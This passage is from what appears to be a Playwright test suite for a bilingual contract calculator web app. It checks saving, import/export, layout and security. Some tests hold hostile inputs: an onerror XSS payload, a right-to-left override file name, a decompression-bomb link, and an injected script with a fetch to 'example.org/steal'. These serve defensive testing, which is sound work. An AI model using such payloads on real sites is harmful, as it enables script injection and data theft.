      assertEq((await storage(page))[keys[0]], raw, 'the quarantined text after reload');
    },
  },
  {
    name: 'a scenario named like HTML renders as text and runs nothing',
    async run({ page, url }) {
      const evil = '<img src=x onerror=alert(1)>';
      const requestsToX = [];
      page.on('request', (r) => {
        if (new URL(r.url()).pathname.endsWith('/x')) requestsToX.push(r.url());
      });
      await openApp(page, url);
      await field(page, 'name').fill(evil);
      await expectText(page, NAME, evil);
      await saveAs(page, evil);
      assert((await savedNames(page)).includes(evil), `saved list: ${JSON.stringify(await savedNames(page))}`);
      await page.getByTestId('copy-link').click();
      await page.getByTestId('link-text').waitFor();
      await page.getByTestId('open-compare').click();
      await page.locator('.picker').waitFor();
      assert((await page.locator('.picker').textContent()).includes(evil), 'the compare picker shows the name as text');
      await page.waitForTimeout(200);
      const imgs = await page.evaluate(() =>
        [...document.querySelectorAll('img, [onerror]')].map((e) => e.outerHTML));
      assertEq(imgs.length, 0, `img / onerror elements in the page (${JSON.stringify(imgs)})`);
      assertEq(requestsToX.length, 0, `requests for the image x (${requestsToX})`);
    },
  },
  {
    name: 'a name with a right-to-left override shows what it says, and keeps what was typed',
    async run({ page, url }) {
      await openApp(page, url);
      // U+202E would show "合同fdp.exe" as "合同exe.pdf".
      const typed = '合同\u202Efdp.exe';
      await field(page, 'name').fill(typed);
      await expectText(page, NAME, '合同fdp.exe');
      await saveAs(page, typed, '合同fdp.exe');
      assert((await savedNames(page)).includes('合同fdp.exe'), `saved list: ${JSON.stringify(await savedNames(page))}`);
      assertEq(await field(page, 'name').inputValue(), typed, 'the name field keeps the text as typed');
    },
  },
  {
    name: 'under its Content-Security-Policy the page refuses injected inline script and other origins',
    async run({ page, url, errors }) {
      await openApp(page, url);
      // The policy ships in the page itself, strict: no inline script but one, no other origin.
      const csp = await page.getAttribute('meta[http-equiv="Content-Security-Policy"]', 'content');
      const directives = Object.fromEntries(csp.split(';').map((d) => d.trim().split(/\s+/)).map(([k, ...v]) => [k, v]));
      // Scripts from this origin, and the one inline script (index.html: which first figures a
      // visit gets) admitted by its digest alone.
      const inline = await page.evaluate(() => [...document.querySelectorAll('script:not([src])')].map((e) => e.textContent));
      assertEq(inline.length, 1, 'inline scripts in the page');
      const digest = crypto.createHash('sha256').update(inline[0], 'utf8').digest('base64');
      assertEq(JSON.stringify(directives['script-src']), JSON.stringify(["'self'", `'sha256-${digest}'`, "'wasm-unsafe-eval'"]), 'script-src');
      assertEq(JSON.stringify(directives['default-src']), JSON.stringify(["'none'"]), 'default-src');
      assertEq(JSON.stringify(directives['object-src']), JSON.stringify(["'none'"]), 'object-src');
      assertEq(JSON.stringify(directives['base-uri']), JSON.stringify(["'none'"]), 'base-uri');
      assert(!/unsafe-inline|'unsafe-eval'|https?:|\*|data:|blob:/.test(csp), `a loose source in the policy: ${csp}`);

      // An attacker's markup that reached the page: an inline <script>, an inline event
      // handler, and a request to another origin. None of them runs or leaves the page.
      const outcome = await page.evaluate(async () => {
        const violations = [];
        document.addEventListener('securitypolicyviolation', (e) =>
          violations.push(`${e.effectiveDirective} ${e.blockedURI}`));
        const s = document.createElement('script');
        s.textContent = 'window.__injected = true;';
        document.body.append(s);
        const d = document.createElement('div');
        d.setAttribute('onclick', 'window.__clicked = true;');
        document.body.append(d);
        d.click();
        const remote = await fetch('https://example.org/steal?data=1').then(() => 'sent', () => 'blocked');
        await new Promise((r) => setTimeout(r, 100));
        return { injected: window.__injected === true, clicked: window.__clicked === true, remote, violations };
      });
      assertEq(outcome.injected, false, 'the injected inline script ran');
      assertEq(outcome.clicked, false, 'the injected inline handler ran');
      assertEq(outcome.remote, 'blocked', 'the request to another origin');
      for (const v of ['script-src-elem inline', 'script-src-attr inline', 'connect-src https://example.org/steal?data=1']) {
        assert(outcome.violations.includes(v), `no securitypolicyviolation "${v}" in ${JSON.stringify(outcome.violations)}`);
      }
      // Chromium reports each refusal on the console too (the fetch twice): expected here, and
      // only here.
      const refusals = (e) => /^console error: .*violates (the following|the document's) Content Security Policy/.test(e);
      const deadline = Date.now() + 2_000;
      while (errors.filter(refusals).length < 4 && Date.now() < deadline) await page.waitForTimeout(50);
      const unexpected = errors.filter((e) => !refusals(e));
      errors.length = 0;
      errors.push(...unexpected);
      // The app works on.
      await field(page, FEE0).fill('5万');
      await expectText(page, TOTAL, '¥660,000.00');
    },
  },
  {
    name: 'the comparison highlights what differs between two saved scenarios',
    async run({ page, url }) {
      await openApp(page, url);
      await saveAs(page, '方案A');
      await field(page, FEE0).fill('40000');
      await expectText(page, TOTAL, '¥540,000.00');
      await saveAs(page, '方案B');
      await saveAs(page, '方案C');
      assertEq(await page.getByTestId('open-calculator').getAttribute('aria-current'), 'page', 'the page shown, for screen readers');
      await page.getByTestId('open-compare').click();
      const picks = page.getByTestId('compare-pick');
      await picks.first().waitFor();
      assertEq(await page.getByTestId('open-compare').getAttribute('aria-current'), 'page', 'the comparison shown');
      assertEq(await page.getByTestId('open-calculator').getAttribute('aria-current'), null, 'the calculator not shown');
      assertEq(await picks.count(), 3, 'saved scenarios offered for comparison');
      const pickFor = (name) => page.locator('.picker label', { hasText: name }).locator('input');
      const current = page.locator('.picker label', { hasText: '当前方案' }).locator('input');
      assertEq(await current.isChecked(), true, 'the current scenario picked at first');
      await pickFor('方案A').check();
      await pickFor('方案B').check();
      // Three picked: a fourth cannot be ticked, and the note says how to swap one.
      assertEq(await pickFor('方案C').isDisabled(), true, 'a fourth scenario cannot be picked');
      await expectText(page, '[data-testid=compare-full]', '已选 3 个方案：如要换一个，请先取消勾选其中一个。');
      await current.uncheck();
      assertEq(await pickFor('方案C').isDisabled(), false, 'a place freed');
      await page.waitForFunction(() => document.querySelector('[data-testid=compare-full]')?.textContent?.trim() === '');
      const table = page.getByTestId('comparison');
      await table.waitFor();
      const heads = (await table.locator('thead th').allTextContents()).map((t) => t.trim());
      assertEq(JSON.stringify(heads.slice(1)), JSON.stringify(['方案A', '方案B']), 'comparison columns');
      const row = async (key) => {
        const tr = table.locator(`tr[data-key=${key}]`);
        const cells = (await tr.locator('td').allTextContents()).map((t) => t.trim());
        const differs = await tr.evaluate((e) => e.classList.contains('differs'));
        return { cells, differs };
      };
      const fee = await row('cycle_fee');
      assertEq(JSON.stringify(fee.cells), JSON.stringify(['¥50,000.00', '¥45,000.00']), 'fee per cycle (A, B)');
      assertEq(fee.differs, true, 'fee per cycle highlighted');
      const total = await row('contract_total');
      assertEq(JSON.stringify(total.cells), JSON.stringify(['¥600,000.00', '¥540,000.00']), 'contract total (A, B)');
      assertEq(total.differs, true, 'contract total highlighted');
      const cal = await row('calendar');
      assertEq(cal.cells[0], cal.cells[1], 'calendar cells equal');
      assertEq(cal.differs, false, 'calendar highlighted');
    },
  },
  {
    name: 'the language toggle switches to English and is remembered after a reload',
    async run({ page, url }) {
      await openApp(page, url);
      // Pressed from the keyboard, the toggle keeps the focus once drawn in the other language.
      await page.getByTestId('lang-toggle').focus();
      await page.keyboard.press('Enter');
      await expectText(page, 'h1', 'Service Outsourcing Contract Calculator');
      await page.waitForFunction(() => document.activeElement?.dataset.testid === 'lang-toggle');
      assertEq(await page.getAttribute('html', 'lang'), 'en', '<html lang>');
      assertEq(await page.title(), 'Service outsourcing contract calculator', 'the title');
      await expectText(page, '[data-testid=lang-toggle]', '中文');
      await waitForStorage(page, (s) => s[LANG_KEY] === 'en', `${LANG_KEY} = en`);
      await reloadApp(page);
      await expectText(page, 'h1', 'Service Outsourcing Contract Calculator');
      assertEq(await page.getAttribute('html', 'lang'), 'en', '<html lang> after reload');
      await expectText(page, TOTAL, STARTER_TOTAL);
      // Field messages follow the language.
      await field(page, FEE0).fill('abc');
      await expectText(page, '#f-fees-components-0--amount-err',
        '“abc” is not an amount: type e.g. 50000, 50,000, 50000.00 or 5万');
    },
  },
  {
    name: 'importing a bad .json file shows a message and changes nothing',
    async run({ page, url }) {
      // The app's wasm memory, to see how much of a file it copied in.
      await page.addInitScript(() => {
        for (const name of ['instantiate', 'instantiateStreaming']) {
          const original = WebAssembly[name];
          WebAssembly[name] = function (...args) {
            return original.apply(this, args).then((result) => {
              const exports = (result.instance ?? result).exports;
              if (exports?.start && exports.memory) window.appMemory = exports.memory;
              return result;
            });
          };
        }
      });
      await openApp(page, url);
      await field(page, 'name').fill('导入前的方案');
      const before = (await waitForStorage(page, (s) => s[WORKING_KEY]?.includes('导入前的方案'), 'the scenario'))[WORKING_KEY];
      const input = page.locator('#f-import');
      await input.setInputFiles({ name: 'broken.json', mimeType: 'application/json', buffer: Buffer.from('{"format": "contract-calc/scenario", "version": 1, "name": "坏') });
      const b1 = await expectBanner(page, '文件“broken.json”未导入，当前内容未改变');
      await input.setInputFiles({
        name: 'wrong.json', mimeType: 'application/json',
        buffer: Buffer.from(JSON.stringify({ format: 'contract-calc/scenario', version: 1, name: '坏文件', as_of: '2025-09-30' })),
      });
      await page.waitForFunction(() => document.querySelectorAll('[data-testid=banner]').length >= 2);
      const texts = await page.getByTestId('banner').allTextContents();
      assertEq(texts.filter((t) => t.includes('未导入，当前内容未改变')).length, 2, `import banners ${JSON.stringify(texts)}`);
      // Each names its file, so two refusals are told apart.
      assert(texts.some((t) => t.includes('文件“wrong.json”未导入')), `the second names its file: ${JSON.stringify(texts)}`);
      assert(texts.some((t) => t.includes('文件“wrong.json”未导入，当前内容未改变：合同：必填')), `the second message should name the missing contract as the form does: ${JSON.stringify(texts)}`);
      await expectText(page, NAME, '导入前的方案');
      await expectText(page, TOTAL, STARTER_TOTAL);
      await page.waitForTimeout(200);
      const store = await storage(page);
      assertEq(store[WORKING_KEY], before, 'the working scenario after the bad imports');
      assertEq(Object.keys(store).filter((k) => k.startsWith(SAVED_PREFIX)).length, 0, 'saved scenarios after the bad imports');
      // Closed from the keyboard, a notice hands the focus to the one left, not to the page's top.
      await b1.getByRole('button', { name: '关闭' }).focus();
      await page.keyboard.press('Enter');
      await page.waitForFunction(() => document.querySelectorAll('[data-testid=banner]').length === 1);
      const focused = () => page.evaluate(() => {
        const e = document.activeElement;
        return e?.closest('[data-testid=banner]') ? `${e.getAttribute('data-action')} ${e.getAttribute('data-id')}` : e?.tagName;
      });
      const left = await page.getByTestId('banner').getByRole('button', { name: '关闭' }).getAttribute('data-id');
      assertEq(await focused(), `dismiss ${left}`, 'the focus after closing a notice');
      // A notice added meanwhile leaves the focus where it is.
      await input.setInputFiles({ name: 'broken2.json', mimeType: 'application/json', buffer: Buffer.from('{') });
      await page.waitForFunction(() => document.querySelectorAll('[data-testid=banner]').length === 2);
      assertEq(await focused(), `dismiss ${left}`, 'the focus after another notice came');
      // A scenario saved as GBK by an older Notepad (方案 = B7 BD B0 B8) is refused as not UTF-8,
      // never imported with its characters replaced by �.
      const gbk = JSON.parse(cli(['sample', 'starter']));
      gbk.name = '@@';
      const [pre, post] = JSON.stringify(gbk).split('@@');
      await input.setInputFiles({ name: 'gbk.json', mimeType: 'application/json', buffer: Buffer.concat([Buffer.from(pre), Buffer.from([0xb7, 0xbd, 0xb0, 0xb8]), Buffer.from(post)]) });
      await expectBanner(page, '文件“gbk.json”未导入，当前内容未改变：文件不是 UTF-8 文本（可能是 GBK 等编码）');
      assertEq(Object.keys(await storage(page)).filter((k) => k.startsWith(SAVED_PREFIX)).length, 0, 'saved scenarios after the GBK file');
      // A 40 MiB file (a video chosen by mistake) is refused as too large by its size, unread
      // (an export of every saved scenario may be up to 16 MiB); the page still computes.
      // Handing 40 MiB to the page takes seconds on a busy machine: a wait of its own.
      await input.setInputFiles({ name: 'video.json', mimeType: 'application/json', buffer: Buffer.alloc(40 * 1024 * 1024, 0x20) }, { timeout: 60_000 });
      await expectBanner(page, '方案文件过大：超过 16,777,216 字节（16 MiB）');
      // A single scenario of 2 MiB is still one document, held to 1 MiB.
      const padded = JSON.parse(cli(['sample', 'starter']));
      padded.padding = 'x'.repeat(2 * 1024 * 1024);
      await input.setInputFiles({ name: 'padded.json', mimeType: 'application/json', buffer: Buffer.from(JSON.stringify(padded)) });
      await expectBanner(page, '文件“padded.json”未导入，当前内容未改变：方案文件过大：超过 1,048,576 字节（1 MiB）');
      const mib = await page.evaluate(() => window.appMemory.buffer.byteLength / 2 ** 20);
      assert(mib < 20, `the app's memory after a 40 MiB file: ${mib} MiB (the file was copied in whole)`);
      await field(page, FEE0).fill('40000');
      await expectText(page, TOTAL, '¥540,000.00');
      // A file then imported changes the content: the refusals saying "nothing changed" go.
      await input.setInputFiles({ name: 'good.json', mimeType: 'application/json', buffer: Buffer.from(cli(['sample', 'ten-year'])) }, { timeout: 60_000 });
      await expectBanner(page, '已导入并保存');
      await page.waitForFunction(() => ![...document.querySelectorAll('[data-testid=banner]')].some((b) => b.textContent.includes('未导入') || b.textContent.includes('过大')));
      // An export of many scenarios, larger than one document (100 ten-year scenarios: about
      // 1.5 MB), imports again: a backup that cannot be restored would lose what it kept.
      const tenYear = JSON.parse(cli(['sample', 'ten-year']));
      const bundle = JSON.stringify({ format: 'contract-calc/bundle', version: 1, scenarios: Array.from({ length: 100 }, () => tenYear) }, null, 2);
      assert(bundle.length > 1024 * 1024, `the bundle is ${bundle.length} bytes`);
      await input.setInputFiles({ name: 'backup.json', mimeType: 'application/json', buffer: Buffer.from(bundle) }, { timeout: 60_000 });
      await expectBanner(page, '已导入 100 个方案。');
    },
  },
  {
    name: 'an exported scenario imports in another browser with the same figures',
    async run({ page, url, newPage }) {
      await openApp(page, url);
      await field(page, 'name').fill('导出测试');
      await field(page, FEE1).fill('6000');
      await expectText(page, TOTAL, '¥612,000.00');
      // The file's address stays valid while the download starts (some WebViews cancel a
      // download whose blob URL is revoked at once).
      await page.evaluate(() => {
        window.revokedNow = 0;
        const revoke = URL.revokeObjectURL.bind(URL);
        URL.revokeObjectURL = (u) => { window.revokedNow++; revoke(u); };
      });
      const dl = await clickForDownload(page, page.getByRole('button', { name: '导出', exact: true }));
      const text = await downloadText(dl);
      assertEq(await page.evaluate(() => window.revokedNow), 0, 'blob URLs revoked as the download started');
      assertEq(dl.suggestedFilename(), '导出测试.json', 'the export file name');
      assertEq(JSON.parse(text).name, '导出测试', 'the exported name');
      const other = await newPage();
      await openApp(other, url);
      // Imported from the keyboard: the focus stays on the file input.
      await other.locator('#f-import').focus();
      await other.locator('#f-import').setInputFiles({ name: 'x.json', mimeType: 'application/json', buffer: Buffer.from(text) });
      await expectBanner(other, '已导入并保存');
      await expectText(other, NAME, '导出测试');
      await other.getByTestId('save-state').filter({ hasText: '已保存' }).waitFor();
      await other.evaluate(() => new Promise((done) => requestAnimationFrame(() => setTimeout(done, 0))));
      assertEq(await other.evaluate(() => document.activeElement?.id), 'f-import', 'the focus after an import');
      await expectText(other, TOTAL, '¥612,000.00');
      await other.getByTestId('toggle-list').click();
      assertEq(JSON.stringify(await savedNames(other)), JSON.stringify(['导出测试']), 'saved list after import');
      // Imported again: the new note replaces the first, they do not pile up.
      await other.locator('#f-import').setInputFiles({ name: 'x.json', mimeType: 'application/json', buffer: Buffer.from(text) });
      await other.waitForFunction(() => document.querySelectorAll('[data-testid=open-saved]').length >= 2);
      assertEq(await bannerWith(other, '已导入并保存').count(), 1, '"imported and saved" notes after two imports');
    },
  },
  {
    name: 'a damaged or hostile share link is reported and the app still computes',
    async run({ page, url, newPage }) {
      await openApp(page, `${url}#s1.garbage`);
      await expectBanner(page, '链接中的方案无法打开');
      // A first visit shows the sample: said to be one, and what to ask the sender for.
      await expectBanner(page, '链接可能不完整（聊天软件有时会截断长链接），请让对方重新发送，或发送导出的文件。下面是示例方案，不是对方发来的合同。');
      // What to do is said once: no "check the whole link was copied" before "may be cut short".
      const said = await expectBanner(page, '链接中的方案无法打开：分享链接已损坏，无法读取。链接可能不完整');
      assert(!(await said.textContent()).includes('完整的链接'), await said.textContent());
      await expectText(page, TOTAL, STARTER_TOTAL);
      assertEq(await page.evaluate(() => location.hash), '', 'the fragment after a damaged link');
      // Once the notice is closed, the name and the phone's bar still say whose figures these are.
      await expectText(page, '[data-testid=save-state]', '示例方案，不是链接中的合同');
      await page.setViewportSize({ width: 390, height: 844 });
      await expectText(page, '[data-testid=summary-bar] .go', '示例数据，非链接内容');
      await field(page, FEE0).fill('5万');
      await expectText(page, TOTAL, '¥660,000.00');
      // Edited, it is the user's own draft.
      await expectText(page, '[data-testid=save-state]', '草稿已自动保存');
      await expectText(page, '[data-testid=summary-bar] .go', '查看结果 ↓');
      // Another scenario imported: the notice saying the form shows the sample goes.
      await page.locator('#f-import').setInputFiles({ name: 'good.json', mimeType: 'application/json', buffer: Buffer.from(cli(['sample', 'ten-year'])) });
      await expectBanner(page, '已导入并保存');
      assertEq(await bannerWith(page, '下面是示例方案').count(), 0, 'the damaged link\'s notice after an import');

      // A well-encoded link whose document is not a valid scenario names the problem.
      const p2 = await newPage();
      await p2.goto(`${url}#${fragmentOf(JSON.stringify({ format: 'contract-calc/scenario', version: 1, name: '坏链接', as_of: '2025-09-30' }))}`);
      await p2.locator(TOTAL).waitFor();
      const b = await expectBanner(p2, '分享链接中的方案有误');
      assert((await b.textContent()).includes('contract'), `the message should name "contract": ${await b.textContent()}`);
      await expectText(p2, NAME, STARTER_NAME);
      await expectText(p2, TOTAL, STARTER_TOTAL);
      await waitForStorage(p2, (s) => s[WORKING_KEY]?.includes(STARTER_NAME), 'the starter scenario autosaved');
      assert(!JSON.stringify(await storage(p2)).includes('坏链接'), 'nothing from the bad link is stored');

      // A decompression bomb: a 55,000-character link whose scenario name holds 40 MiB of
      // spaces. Inflation stops past the 1 MiB document limit and the link is called damaged.
      const bomb = fragmentOf(`{"format":"contract-calc/scenario","version":1,"name":"${' '.repeat(40 << 20)}"}`);
      assert(bomb.length < 65_536, `the bomb's link is ${bomb.length} characters`);
      const p3 = await newPage();
      await p3.goto(`${url}#${bomb}`);
      await p3.locator(TOTAL).waitFor();
      await expectBanner(p3, '分享链接已损坏');
      await expectText(p3, TOTAL, STARTER_TOTAL);
      // A link over 65,536 characters is refused by its length, before any decoding.
      const p4 = await newPage();
      await p4.goto(`${url}#s1.${'A'.repeat(65_536)}`);
      await p4.locator(TOTAL).waitFor();
      await expectBanner(p4, '分享链接过长（超过 65,536 个字符）');
      await expectText(p4, TOTAL, STARTER_TOTAL);
    },
  },
  {
    name: 'no two saved scenarios share a name: a second 方案A is 方案A (2), and a rename onto a name in use is numbered',
    async run({ page, url }) {
      await openApp(page, url);
      await saveAs(page, '方案A');
      await saveAs(page, '方案A', '方案A (2)');
      assertEq(JSON.stringify((await savedNames(page)).sort()), JSON.stringify(['方案A', '方案A (2)']), 'names after saving 方案A twice');
      await expectText(page, NAME, '方案A (2)');
      await saveAs(page, '方案B');
      const row = page.locator('[data-testid=saved-list] li').nth((await savedNames(page)).indexOf('方案B'));
      await row.getByRole('button', { name: '重命名' }).click();
      await row.locator('input[type=text]').fill('方案A');
      await row.getByRole('button', { name: '确定' }).click();
      await page.locator('[data-testid=saved-list] .saved-name', { hasText: '方案A (3)' }).waitFor();
      assertEq(JSON.stringify((await savedNames(page)).sort()), JSON.stringify(['方案A', '方案A (2)', '方案A (3)']), 'names after the rename');
      // The open scenario was the one renamed: the form follows.
      await expectText(page, NAME, '方案A (3)');
      // A name typed in the form that another entry has is numbered on Save too.
      await field(page, 'name').fill('方案A (2)');
      await page.getByTestId('save-current').click();
      await expectText(page, '[data-testid=save-state]', '已保存');
      assertEq(await field(page, 'name').inputValue(), '方案A (3)', 'the name field after Save');
      assertEq(JSON.stringify((await savedNames(page)).sort()), JSON.stringify(['方案A', '方案A (2)', '方案A (3)']), 'names after Save');
    },
  },
  {
    name: 'saved scenarios are renamed, duplicated, listed by last change, and saved only when asked',
    async run({ page, url }) {
      await openApp(page, url);
      await saveAs(page, '甲方案');
      await field(page, FEE0).fill('40000');
      await saveAs(page, '乙方案');
      // The newest change first.
      assertEq(JSON.stringify(await savedNames(page)), JSON.stringify(['乙方案', '甲方案']), 'list order');
      const item = (name) => page.locator('[data-testid=saved-list] li', { hasText: name });
      // Rename 甲方案 → 甲方案（修订）: it moves to the top, and storage holds the new name.
      const row = page.locator('[data-testid=saved-list] li').nth((await savedNames(page)).indexOf('甲方案'));
      const renamedId = await row.getByRole('button', { name: '重命名' }).getAttribute('data-id');
      await row.getByRole('button', { name: '重命名' }).click();
      // The name's input takes the focus, and after OK the focus is back on 重命名.
      await page.waitForFunction(() => document.activeElement?.matches('[data-testid=saved-list] input[type=text]'));
      await row.locator('input[type=text]').fill('甲方案（修订）');
      // 重命名 pressed again meanwhile leaves the name typed so far.
      await row.getByRole('button', { name: '重命名' }).click();
      assertEq(await row.locator('input[type=text]').inputValue(), '甲方案（修订）', 'the name typed after 重命名 again');
      await row.getByRole('button', { name: '确定' }).click();
      await item('甲方案（修订）').locator('.saved-name').waitFor();
      assertEq(await page.evaluate(() => `${document.activeElement?.textContent} ${document.activeElement?.dataset.id}`), `重命名 ${renamedId}`, 'the focus after OK');
      // Drawn again for another reason (the language), the list leaves the focus on that 重命名.
      await page.evaluate(() => document.querySelector('[data-testid=lang-toggle]').click());
      await expectText(page, '[data-testid=lang-toggle]', '中文');
      assertEq(await page.evaluate(() => `${document.activeElement?.textContent} ${document.activeElement?.dataset.id}`), `Rename ${renamedId}`, 'the focus after the list is drawn again');
      await page.evaluate(() => document.querySelector('[data-testid=lang-toggle]').click());
      await expectText(page, '[data-testid=lang-toggle]', 'EN');
      assertEq(JSON.stringify(await savedNames(page)), JSON.stringify(['甲方案（修订）', '乙方案']), 'list after rename');
      // Duplicate 乙方案: a copy named 乙方案 (副本) with the same figures.
      await item('乙方案').first().getByRole('button', { name: '复制' }).click();
      await item('乙方案 (副本)').waitFor();
      await item('乙方案 (副本)').getByTestId('open-saved').click();
      await expectText(page, NAME, '乙方案 (副本)');
      await expectText(page, TOTAL, '¥540,000.00');
      // Editing an opened scenario leaves the saved one as it was until Save is pressed.
      await field(page, FEE0).fill('30000');
      await expectText(page, TOTAL, '¥420,000.00');
      await expectText(page, '[data-testid=save-state]', '有未保存的修改');
      let stored = Object.values(await storage(page)).map((v) => { try { return JSON.parse(v); } catch { return null; } })
        .find((v) => v?.name === '乙方案 (副本)');
      assertEq(stored.scenario.fees.components[0].amount, '40000.00', 'the saved copy before Save');
      // Saved from the keyboard: Save goes, and the focus moves to 新建 rather than the page's top.
      await page.getByTestId('save-current').focus();
      await page.keyboard.press('Enter');
      await expectText(page, '[data-testid=save-state]', '已保存');
      assertEq(await page.getByTestId('save-current').count(), 0, 'Save once saved');
      const focusedTestid = () => page.evaluate(() => document.activeElement?.getAttribute('data-testid'));
      await page.waitForFunction(() => document.activeElement?.getAttribute('data-testid') === 'new-scenario');
      stored = Object.values(await storage(page)).map((v) => { try { return JSON.parse(v); } catch { return null; } })
        .find((v) => v?.name === '乙方案 (副本)');
      assertEq(stored.scenario.fees.components[0].amount, '30000.00', 'the saved copy after Save');
      // 我的方案 from the keyboard: the list closes and opens again, the focus staying on it.
      const toggle = page.getByTestId('toggle-list');
      await toggle.focus();
      // The same button throughout, its state changed in place (a disclosure button).
      await toggle.evaluate((b) => { b.dataset.marked = 'yes'; });
      await page.keyboard.press('Enter');
      await page.getByTestId('saved-panel').waitFor({ state: 'detached' });
      assertEq(await toggle.getAttribute('aria-expanded'), 'false', 'the list closed');
      assertEq(await focusedTestid(), 'toggle-list', 'the focus after closing the list');
      await page.keyboard.press('Enter');
      await page.getByTestId('saved-panel').waitFor();
      assertEq(await toggle.getAttribute('aria-expanded'), 'true', 'the list open');
      assertEq(await focusedTestid(), 'toggle-list', 'the focus after opening the list');
      assertEq(await toggle.getAttribute('data-marked'), 'yes', 'the same 我的方案 button');
    },
  },
  {
    name: 'New starts from the starter scenario and keeps unsaved work as a draft',
    async run({ page, url }) {
      await openApp(page, url);
      await field(page, 'name').fill('谈判草案');
      await field(page, FEE0).fill('40000');
      await expectText(page, TOTAL, '¥540,000.00');
      await page.getByTestId('new-scenario').click();
      await expectText(page, NAME, STARTER_NAME);
      await expectText(page, TOTAL, STARTER_TOTAL);
      await page.getByTestId('toggle-list').click();
      assertEq(JSON.stringify(await savedNames(page)), JSON.stringify(['谈判草案（草稿）']), 'drafts kept');
      // The untouched starter is not kept again.
      await page.getByTestId('new-scenario').click();
      assertEq(JSON.stringify(await savedNames(page)), JSON.stringify(['谈判草案（草稿）']), 'drafts after a second New');
      // Other work under the same name is a second draft, named apart so the banner points to
      // one entry of the list.
      await field(page, 'name').fill('谈判草案');
      await field(page, FEE0).fill('42000');
      await expectText(page, TOTAL, '¥564,000.00');
      await page.getByTestId('new-scenario').click();
      await expectBanner(page, '未保存的修改已另存为“谈判草案（草稿 2）”');
      // That note replaces the first one, rather than stacking above the page.
      assertEq(await bannerWith(page, '未保存的修改已另存为').count(), 1, 'notes of work kept');
      assertEq(JSON.stringify((await savedNames(page)).sort()), JSON.stringify(['谈判草案（草稿 2）', '谈判草案（草稿）']), 'drafts after other work');
    },
  },
  {
    name: 'a deleted saved scenario can be restored with undo',
    async run({ page, url }) {
      await openApp(page, url);
      await saveAs(page, '保留的方案');
      await field(page, FEE0).fill('30000');
      await saveAs(page, '要删除的方案');
      assertEq(JSON.stringify((await savedNames(page)).sort()), JSON.stringify(['保留的方案', '要删除的方案'].sort()), 'saved list');
      const before = await storage(page);
      const key = Object.keys(before).find((k) => k.startsWith(SAVED_PREFIX) && JSON.parse(before[k]).name === '要删除的方案');
      assert(key, 'the saved entry is stored');
      await page.locator('[data-testid=saved-list] li', { hasText: '要删除的方案' }).getByTestId('delete-saved').click();
      await page.locator('[data-testid=saved-list] li', { hasText: '要删除的方案' }).waitFor({ state: 'detached' });
      assertEq(JSON.stringify(await savedNames(page)), JSON.stringify(['保留的方案']), 'saved list after delete');
      assert(!(key in (await storage(page))), 'the deleted entry is gone from storage');
      const undo = page.getByTestId('undo-delete');
      await undo.waitFor({ state: 'visible' });
      assert((await page.locator('.undo').textContent()).includes('已删除“要删除的方案”'), 'the undo note names the scenario');
      await undo.click();
      await page.locator('[data-testid=saved-list] li', { hasText: '要删除的方案' }).waitFor();
      assertEq((await storage(page))[key], before[key], 'the restored entry, byte for byte');
      await undo.waitFor({ state: 'detached' });
      // It opens with the figures it was saved with.
      await field(page, FEE0).fill('1');
      await expectText(page, TOTAL, '¥60,012.00');
      await page.locator('[data-testid=saved-list] li', { hasText: '要删除的方案' }).getByTestId('open-saved').click();
      await expectText(page, TOTAL, '¥420,000.00');
      await expectText(page, NAME, '要删除的方案');
    },
  },
  {
    name: 'typing two characters into any field keeps the cursor in that field',
    async run({ page, url }) {
      await openApp(page, url);
      // Every optional clause on, so that every kind of field is on the page.
      for (const id of ['f-sub-on', 'f-inc-on', 'f-q-on', 'f-term-on']) await page.locator(`#${id}`).check();
      await page.locator('[data-path="termination.date"]').waitFor();
      const paths = await page.evaluate(() =>
        [...document.querySelectorAll('input[data-path]:not([type=date])')].map((e) => e.dataset.path));
      assert(paths.length >= 20, `only ${paths.length} text fields found`);
      const broken = [];
      for (const path of paths) {
        const el = field(page, path);
        const before = await el.inputValue();
        const handle = await el.elementHandle();
        await el.click();
        await page.keyboard.press('End');
        await page.keyboard.type('1');
        await page.keyboard.type('2');
        const kept = await handle.evaluate((e) => e.isConnected && document.activeElement === e);
        const after = await el.inputValue();
        if (!kept || after !== `${before}12`) {
          const focus = await page.evaluate(() => document.activeElement?.dataset?.path ?? document.activeElement?.tagName);
          broken.push(`${path}: ${JSON.stringify(before)} + "12" gave ${JSON.stringify(after)}; ` +
            `${kept ? '' : 'the input was replaced, '}focus on ${focus}`);
        }
        await el.fill(before);
      }
      assertEq(await textOf(page, TOTAL), STARTER_TOTAL, 'the total after restoring every field');
      assert(broken.length === 0, `typing lost characters in ${broken.length} field(s):\n${broken.join('\n')}`);
    },
  },
  {
    name: 'on a phone a rate change\'s fields are wide enough to read, and a field reached with Tab is never under the summary bar',
    async run({ page, url }) {
      await page.setViewportSize({ width: 390, height: 844 });
      await openApp(page, url);
      // Each of a rate change's inputs and choices, in both of its forms, at least 120 px wide
      // (they shared one line, 25 px each).
      await page.getByTestId('add-rate-change').click();
      const row = page.getByTestId('rate-change').first();
      const narrow = async () => row.locator('input, select').evaluateAll((els) =>
        els.map((e) => [e.id, Math.round(e.getBoundingClientRect().width)]).filter(([, w]) => w < 120));
      assertEq(JSON.stringify(await narrow()), '[]', 'narrow fields of a rate change at a daily rate');
      await row.locator('select').first().selectOption({ index: 2 });
      await row.locator('[data-path$=".rate.lpr_multiple"]').waitFor();
      assertEq(JSON.stringify(await narrow()), '[]', 'narrow fields of a rate change at an LPR multiple');
      // Tab through the top of the form: every field focused is clear of the sticky bar.
      const bar = page.getByTestId('summary-bar');
      await bar.waitFor();
      await field(page, 'name').focus();
      const hidden = [];
      for (let i = 0; i < 60; i++) {
        await page.keyboard.press('Tab');
        const under = await page.evaluate(() => {
          const e = document.activeElement;
          const bar = document.querySelector('[data-testid=summary-bar]');
          if (!e || bar.contains(e)) return null;
          const r = e.getBoundingClientRect();
          const b = bar.getBoundingClientRect();
          return r.bottom > b.top && r.top < b.bottom ? e.dataset.path || e.id || e.textContent.trim() : null;
        });
        if (under) hidden.push(under);
      }
      assertEq(hidden.join(', '), '', 'fields focused under the summary bar');
    },
  },
  {
    name: 'at 360 px wide nothing scrolls sideways, and no table hides a column',
    async run({ page, url }) {
      await page.setViewportSize({ width: 360, height: 740 });
      await openApp(page, url);
      const check = async (what) => {
        const { sw, wide, tables } = await page.evaluate(() => {
          const vw = document.documentElement.clientWidth;
          const wide = [...document.querySelectorAll('body *')]
            .filter((e) => {
              const r = e.getBoundingClientRect();
              return r.width > 0 && r.right > vw + 1 && !e.closest('.table-wrap');
            })
            .slice(0, 5)
